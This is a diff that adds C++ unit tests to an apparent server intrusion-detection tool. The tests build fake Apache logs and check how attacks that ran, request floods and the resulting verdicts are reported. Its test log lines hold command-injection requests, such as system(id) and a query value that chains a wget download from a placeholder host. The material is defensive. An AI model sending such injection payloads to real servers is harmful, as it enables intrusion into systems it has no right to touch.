@@ -110,5 +110,46 @@ TEST(WebDoubts, OnlyACallAfterTheUploadMakesItSureAndNoProxyIs) {
   }
 }
 
+std::string error_log(const std::string& line) {
+  return "[Sun Sep 13 02:00:00.100000 2026] [mpm_prefork:notice] [pid 7] AH00163: Apache configured\n" + line;
+}
+
+TEST(WebDoubts, ACommandThatOnlyTheMomentJoinsToARequestIsNoBreakIn) {
+  DoubtfulServer server;
+  server.write_access(DoubtfulServer::request("203.0.113.45", "05:00:00", "GET /?q=system(id)"));
+  server.write("/var/log/apache2/error.log",
+               "[Sun Sep 13 05:00:01.100000 2026] [core:notice] [pid 7] x\nsh: 1: curl: not found\n");
+  const auto document = server.investigate();
+  const auto found = of_rule(document, "web.attack_ran");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_EQ(found[0].at("severity"), "medium");
+  EXPECT_EQ(document.at("entry_vectors"), Json::array());
+}
+
+TEST(WebDoubts, AFloodOfAttacksHidesNoneThatRan) {
+  DoubtfulServer server;
+  std::string log;
+  for (int i = 0; i < 6'000; ++i)
+    log += DoubtfulServer::request("203.0.113.9", "03:" + std::to_string(10 + i / 200) + ":00",
+                                   "GET /?x=system(1)");
+  server.write_access(
+      log + DoubtfulServer::request("203.0.113.45", "05:00:00", "GET /p.php?h=1;wget%20http://x/y"));
+  server.write(
+      "/var/log/apache2/error.log",
+      error_log("[Sun Sep 13 05:00:01.100000 2026] [cgi:error] [pid 8] [client 203.0.113.45:4] AH01215: "
+                "sh: 1: wget: not found\n"));
+  EXPECT_EQ(of_rule(server.investigate(), "web.attack_ran").size(), 1U);
+}
+
+TEST(WebDoubts, AFloodOfScriptsLeavesAGraveGap) {
+  DoubtfulServer server;
+  std::string log;
+  for (int i = 0; i < 20'001; ++i)
+    log += DoubtfulServer::request("203.0.113.9", "03:10:00", "GET /uploads/" + std::to_string(i) + ".php");
+  server.write_access(log);
+  const auto document = server.investigate();
+  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined");
+}
+
 }  // namespace
 }  // namespace rescue::detect
